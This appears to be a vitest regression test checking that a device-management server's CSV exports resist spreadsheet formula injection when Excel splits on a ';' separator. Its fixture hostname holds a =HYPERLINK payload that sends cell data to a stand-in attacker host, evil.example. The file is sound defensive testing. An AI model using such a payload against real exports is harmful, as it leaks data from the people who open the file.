/**
 * Attack pass (session 3): formula injection through the list separator. The CSV exports
 * (/devices.csv, /api/v1/audit.csv, evidence bundles) guard a cell that *starts* with
 * = + - @ TAB CR, but Excel opens a double-clicked .csv with the locale's list separator,
 * which is ";" in most of Europe (de-DE, fr-FR, …). A device that enrolls with the hostname
 * `x;=HYPERLINK(…)` (anyone holding the enrollment secret) then puts an unguarded cell
 * starting with "=" in front of the help desk. Required: a text cell containing ";" or TAB is
 * quoted, so it stays one cell under either separator; no cell under "," or ";" splitting
 * starts a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, startTestCollector, type TestCollector } from '../helpers/collector.js';
import { enrollDevice } from '../helpers/device.js';
import { CSV_BOM } from '../../shared/src/evidence/csv.js';

const EVIL = 'x;=HYPERLINK("https://evil.example/?"&A1;"open");\t=1+1';

/** RFC 4180 split with a chosen delimiter (what Excel does with the locale separator). */
function split(text: string, sep: string): string[][] {
  if (text.startsWith(CSV_BOM)) text = text.slice(1);
  const rows: string[][] = [];
  let row: string[] = [], field = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === sep) row.push(field), (field = '');
    else if (c === '\n') row.push(field.replace(/\r$/, '')), rows.push(row), (row = []), (field = '');
    else field += c;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

describe('CSV exports under a ";" list separator', () => {
  let c: TestCollector;
  beforeAll(async () => {
    c = await startTestCollector('pglite');
    await enrollDevice(c.url, { hostname: EVIL });
  }, 180_000);
  afterAll(async () => {
    await c?.cleanup();
  });

  for (const path of ['/devices.csv', '/api/v1/audit.csv']) {
    it(`${path}: the hostname stays one cell and no cell starts a formula, with "," or ";"`, async () => {
      const res = await fetch(`${c.url}${path}`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
      expect(res.status).toBe(200);
      const text = await res.text();
      expect(text).toContain('HYPERLINK'); // the device's text is in the export
      for (const sep of [',', ';', '\t']) {
        const cells = split(text, sep).flat();
        const bad = cells.filter((x) => /^[=+\-@]/.test(x));
        expect(bad, `separator ${JSON.stringify(sep)}`).toEqual([]);
      }
    }, 60_000);
  }
});
